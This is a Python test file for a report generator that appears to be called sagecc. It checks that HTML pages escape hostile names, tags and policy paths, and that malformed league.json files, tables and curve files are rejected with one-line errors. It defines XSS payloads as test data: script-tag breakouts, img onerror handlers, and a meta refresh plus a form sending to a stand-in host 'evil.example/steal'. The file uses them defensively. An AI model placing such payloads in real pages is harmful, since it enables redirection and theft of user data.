# SPDX-License-Identifier: Apache-2.0
"""Names and files of somebody else on a page: text, never markup; what the page cannot show is one line."""

from __future__ import annotations

import ast
import json
import re
from collections.abc import Iterator, Mapping, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import polars as pl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sagecc.collector.run.set_file import load_set
from sagecc.common.errors import SageccError
from sagecc.common.files import sha256_file
from sagecc.common.manifest import digest
from sagecc.leagues.league import play, save
from sagecc.leagues.plots import plot_episode
from sagecc.leagues.report.contents import training_curves
from sagecc.leagues.report.files import write_beside
from sagecc.leagues.report.folder import load
from sagecc.leagues.report.page import render
from sagecc.leagues.report.pictures import league_pictures
from sagecc.leagues.study import page as study
from sagecc.leagues.study.results import cells_table, values_table, verdicts_table
from sagecc.schemas.environment import Environment
from tests.conftest import ROOT
from tests.helpers.league_episodes import rows, set_one, set_two, smoke, write
from tests.helpers.modules import LAYERS, modules
from tests.helpers.study_runs import study_runs_of

pytestmark = pytest.mark.heavy

TAG = '"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/steal">'
TEXT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;"
POLICY = 'policy:models/$x_$ "><script><img src=x onerror=alert(1)>&lt;\u2028'
RATES = {"cubic": ([9, 9], [40, 40]), "vegas": ([7, 7], [12, 12]), POLICY: ([8, 6], [11, 20])}


def lab(environments: Sequence[Environment], policies: Sequence[str], out: Path) -> None:
    write(out, {(e, p): rows(e, p, *RATES[p]) for e in environments for p in policies})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a league in `out`: of a set whose traces and tags, and a policy whose path, are markup."""
    folder = tmp_path_factory.mktemp("hostile")
    trace = {"name": f"{TAG}$x$", "opportunities_ms": list(range(1, 11))}
    shared = {"rtt_ms": 20, "duration_s": 4, "windows_s": [[1, 2], [2, 4]]}
    networks = [
        {**shared, "links": [{"trace": trace, "queue_packets": 20}], "tags": {"kind": TEXT, "other": TAG}},
        {**shared, "links": [{"rate_mbps": 12, "queue_bdp": 1}], "tags": {"kind": "<b>bold</b>", "other": "b"}},
    ]
    (folder / "set.json").write_text(json.dumps({"name": "nice", "environments": networks}))
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        card = Path(POLICY.removeprefix("policy:")) / "card.json"
        card.parent.mkdir(parents=True)
        card.write_text("{}")
        found = load_set("set.json")
        write(Path("raw"), {(e, s): rows(e, s, *RATES[s]) for e in found.environments for s in ("cubic", "vegas")})
        save(play(found, tuple(RATES), Path("raw"), Path("out"), lab), Path("out"))
    return folder


class _Elements(HTMLParser):
    """Notes the elements and the texts of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, Mapping[str, str | None]]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_names_are_text_wherever_they_stand(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(hostile)
    page = _Elements()
    text = write_beside(Path("out"), Path("raw")).read_text()
    page.feed(text)
    tags = {tag for tag, _ in page.elements}
    assert not tags & {"form", "img", "iframe", "object", "embed", "base", "link", "svg:script"}
    assert [set(values) for tag, values in page.elements if tag == "meta"] == [
        {"charset"},
        {"http-equiv", "content"},
        {"name", "content"},
    ]
    assert [values for tag, values in page.elements if tag == "script"] == [
        {"type": "application/json", "id": "series"},
        {},
    ]
    assert {values["type"] for tag, values in page.elements if tag == "input"} == {"checkbox", "range"}
    assert not [name for _, values in page.elements for name in values if name.startswith("on")]
    shown = "".join(page.texts)
    for name in (TEXT, TAG, "<b>bold</b>", f"“{POLICY.removeprefix('policy:models/')}”"):
        assert name in shown
    assert any(values.get("value") == POLICY for _, values in page.elements)


def test_names_are_text_in_a_study_too() -> None:
    runs = study_runs_of("fairness", ("cubic", POLICY), quick=True)
    values = values_table(runs)
    names = {POLICY: TEXT}
    page = _Elements()
    page.feed(study.render(study.StudyContents(values, cells_table(values), verdicts_table(values), runs, names)))
    assert not {tag for tag, _ in page.elements} & {"form", "img", "script"}
    assert TEXT in "".join(page.texts)


def test_data_in_a_script_cannot_end_it(hostile: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(hostile)
    text = render(load(Path("out"), Path("raw")), [])
    found = re.search(r'<script type="application/json" id="series">(.*?)</script>', text, re.DOTALL)
    assert found
    assert not set("<>&'\u2028\u2029") & set(found[1])
    data = json.loads(found[1])
    assert POLICY in data["schemes"]
    assert any(TAG in name for name in data["environments"])


def test_a_dollar_is_no_formula(tmp_path: Path) -> None:
    environment = set_one()
    table = rows(environment, "cubic", [9, 9], [40, 40])
    place = table.schema.get_field_index("episode_id")
    named = table.set_column(place, "episode_id", pa.array([r"$\frac{1}$ and $x$"] * len(table)))
    plot_episode(named, tmp_path / "plot.png", "cubic")
    assert (tmp_path / "plot.png").exists()


# ---- who writes HTML ----


def test_only_what_the_program_made_goes_into_a_page_unescaped() -> None:
    found = sorted(ROOT.glob("leagues/templates/*.j2"))
    assert len(found) >= 3
    trusted = [name for path in found for name in re.findall(r"\{\{ *(\S+) *\| *safe", path.read_text())]
    assert sorted(trusted) == ["script", "style", "svg"]
    assert not any("autoescape" in path.read_text() for path in found)


@pytest.mark.parametrize("package", LAYERS)
def test_html_is_written_by_templates_alone(package: str) -> None:
    tags = re.compile(r"</?(?:a|p|td|th|tr|table|div|span|b|i|h[1-6]|li|ul|dl|dt|dd|code|section|script|style)[ >]")
    strings = (
        (file, node)
        for file in modules(package)
        for node in ast.walk(ast.parse(file.read_text()))
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    )
    assert not [f"{file.name}:{node.lineno}" for file, node in strings if tags.search(str(node.value))]


# ---- a league.json of somebody else ----


@pytest.fixture(scope="module")
def benign(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a league in `out`, its trajectories in `raw`."""
    folder = tmp_path_factory.mktemp("benign")
    environments = (set_one(12), set_two(12))
    write(folder / "raw", {(e, s): rows(e, s, *RATES[s]) for e in environments for s in ("cubic", "vegas")})
    save(play(smoke(*environments), ("cubic", "vegas"), folder / "raw", folder / "out", lab), folder / "out")
    return folder


def rewrite(folder: Path, summary: dict[str, Any]) -> Path:
    """Write a league.json whose own hash holds, beside the tables of `folder`; return its folder."""
    out = folder / "out"
    summary = {name: value for name, value in summary.items() if name != "sha256"}
    (out / "league.json").write_text(json.dumps({**summary, "sha256": digest(summary)}))
    return out


@pytest.fixture
def rewritten(benign: Path) -> Iterator[tuple[Path, dict[str, Any]]]:
    """The league's folder and its league.json's content, to `rewrite`."""
    path = benign / "out" / "league.json"
    before = path.read_text()
    yield benign, json.loads(before)
    path.write_text(before)


@pytest.mark.parametrize(
    ("place", "value", "says"),
    [
        (("environments", "I"), TEXT, "environments.I: "),
        (("environments", "I"), 1.5, "environments.I: "),
        (("environments", TEXT), 1, "environments."),
        (("windows",), {"I": 8}, "windows: are not of the sets"),
        (("ranking",), [], "ranking: "),
        (("ranking", 0, "rank"), "1", "ranking[0].rank: "),
        (("ranking", 0, "scheme"), "bbr2", "standings: are not one of each"),
        (("standings", 0, "winning_rate"), 7, "standings[0].winning_rate: "),
        (("standings", 0, "low"), float("nan"), "standings[0].low: "),
        (("standings", 0, "set"), "../../x", "standings[0].set: "),
        (("robustness", 0, "overall"), None, "robustness[0].overall: "),
        (("harm", 0, "flooded"), "</td>", "harm[0].flooded: "),
        (("rules", "margin"), "0.1", "rules.margin: "),
        (("rules", "friendly_margin"), "other", "rules.friendly_margin: "),
        (("terms", "sample"), 1, "terms.sample: "),
        (("kernel",), ["a"], "kernel: "),
        (("profile",), "\ud800", "cannot be read"),
        (("tags",), {"a": {"b": 3}}, "tags.a.b: "),
        (("files", "scores.parquet"), 1, "files.scores.parquet: "),
    ],
)
def test_a_value_of_another_kind_is_named(
    rewritten: tuple[Path, dict[str, Any]], place: Sequence[Any], value: Any, says: str
) -> None:
    folder, summary = rewritten
    inner = summary
    for key in place[:-1]:
        inner = inner[key]
    inner[place[-1]] = value
    out = rewrite(folder, summary)
    with pytest.raises(SageccError, match=re.escape(f"{out / 'league.json'}: {says}")) as found:
        load(out, folder / "raw")
    assert "\n" not in str(found.value)


@pytest.mark.parametrize(
    ("name", "change", "says"),
    [
        ("scores", lambda t: t.drop("win"), "scores.parquet has no column 'win'"),
        ("scores", lambda t: t.with_columns(pl.col("seed").cast(pl.String)), "column 'seed' holds String"),
        ("scores", lambda t: t.with_columns(delay_ms=float("nan")), "column 'delay_ms' has a value that is no number"),
        ("scores", lambda t: t.with_columns(scheme=pl.lit(None, pl.String)), "misses values of 'scheme'"),
        ("scores", lambda t: t.with_columns(set=pl.lit("../../x")), "scores.parquet is of other sets or schemes"),
        ("scores", lambda t: t.head(0), "scores.parquet is of other sets or schemes"),
        ("breakdown", lambda t: t.head(1), "a table of classes is of other schemes"),
    ],
)
def test_a_table_of_another_kind_is_named(
    rewritten: tuple[Path, dict[str, Any]], tmp_path: Path, name: str, change: Any, says: str
) -> None:
    folder, summary = rewritten
    path = folder / "out" / f"{name}.parquet"
    before = path.read_bytes()
    try:
        change(pl.read_parquet(path)).write_parquet(path)
        summary["files"][path.name] = sha256_file(path)
        with pytest.raises(SageccError, match=re.escape(says)):
            load(rewrite(folder, summary), folder / "raw")
    finally:
        path.write_bytes(before)


@pytest.mark.parametrize("text", ["", "a,b\n1\n2,3,4\n", "step,q_mean\n1,x\n", "q_mean\n1\n", "step,q_mean\n"])
def test_curves_of_another_kind_are_named(tmp_path: Path, text: str) -> None:
    (tmp_path / "curves.csv").write_text(text)
    with pytest.raises(SageccError, match=re.escape(f"{tmp_path / 'curves.csv'} ")) as found:
        training_curves([f"policy:{tmp_path}"])
    assert "\n" not in str(found.value)


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of every value in a JSON document."""
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    yield path
    for key, each in inner:
        yield from leaves(each, (*path, key))


VALUES: tuple[Any, ...] = (
    None,
    -1,
    2**70,
    1e308,
    float("inf"),
    "",
    "</script>",
    "$a$b",
    "../x",
    True,
    [],
    {},
    [1],
    {"a": 1},
)


@given(st.data())
@settings(max_examples=10)
def test_any_league_is_a_page_or_one_line(benign: Path, data: st.DataObject) -> None:
    path = benign / "out" / "league.json"
    before = path.read_text()
    try:
        summary = json.loads(before)
        own = [each for each in leaves(summary) if each and each[0] not in ("version", "files", "sha256")]
        *way, last = data.draw(st.sampled_from(own))
        inner = summary
        for key in way:
            inner = inner[key]
        inner[last] = data.draw(st.sampled_from(VALUES))
        try:
            contents = load(rewrite(benign, summary), benign / "raw")
        except SageccError as error:
            assert "\n" not in str(error)
            return
        page = _Elements()
        page.feed(render(contents, league_pictures(contents)))
        assert [tag for tag, _ in page.elements].count("script") == 2
    finally:
        path.write_text(before)
